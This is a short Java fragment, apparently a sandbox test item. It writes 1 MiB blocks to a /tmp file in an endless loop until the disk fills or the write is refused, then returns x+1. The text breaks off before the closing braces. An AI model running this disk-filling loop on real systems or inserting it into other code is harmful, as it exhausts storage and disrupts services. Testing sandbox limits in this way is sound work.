// Writes until the scratch is full.
import java.io.*;
import java.nio.file.*;
import java.util.*;
class Problem {
    public static long f(long x) {
        try {
            try (OutputStream file = new FileOutputStream("/tmp/full" + x)) {
                while (true) {
                    file.write(new byte[1 << 20]);
                }
            }
        } catch (Exception refused) {
            System.err.println(refused);
        }
        return x + 1;
